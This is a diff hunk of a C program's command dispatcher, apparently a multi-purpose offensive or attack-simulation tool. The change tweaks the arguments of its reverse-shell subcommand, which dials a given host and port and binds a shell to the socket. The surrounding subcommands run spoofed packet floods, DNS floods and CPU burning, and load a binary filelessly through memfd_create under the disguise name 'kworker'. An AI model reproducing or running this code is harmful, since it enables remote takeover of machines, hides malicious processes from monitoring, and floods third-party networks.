@@ -122,7 +122,7 @@ int main(int argc, char **v) {
   else if (IS("spoofflood", 5)) spoofflood(v[2], atoi(v[3]), v[4], atof(v[5]), argc > 6);
   else if (IS("fromelsewhere", 4)) { fromelsewhere(v[2], v[3], atoi(v[4])); sleep(2); }
   else if (IS("memfd", 2)) { int in = open(v[2], O_RDONLY), m = memfd_create("kworker", 0), n; while ((n = read(in, b, sizeof b)) > 0) (void)!write(m, b, n); char *none[] = {0}; fexecve(m, v + 2, none); perror("memfd"); return 1; }
-  else if (IS("shell", 4)) { int s = dial(v[2], atoi(v[3])); if (s < 0) return 1; struct timeval t = {0, 0}; setsockopt(s, SOL_SOCKET, SO_RCVTIMEO, &t, sizeof t); for (int i = 0; i < 3; i++) dup2(s, i); execl(v[4], "sh", "-i", (char *)0); return 1; }
+  else if (IS("shell", 4)) { int s = dial(v[2], atoi(v[3])); if (s < 0) return 1; struct timeval t = {0, 0}; setsockopt(s, SOL_SOCKET, SO_RCVTIMEO, &t, sizeof t); for (int i = 0; i < 3; i++) dup2(s, i); execl(v[4], "sh", argc > 5 ? (char *)0 : "-i", (char *)0); return 1; }
   else if (IS("serve", 3)) serve(atoi(v[2]), v[3]);
   else if (IS("burn", 2)) burn(atof(v[2]));
   else if (IS("dnsflood", 2)) for (int i = 0; i < atoi(v[2]); i++) { char n[64]; snprintf(n, sizeof n, "h%d.flood.example", i); resolve(server(), n, ip); }
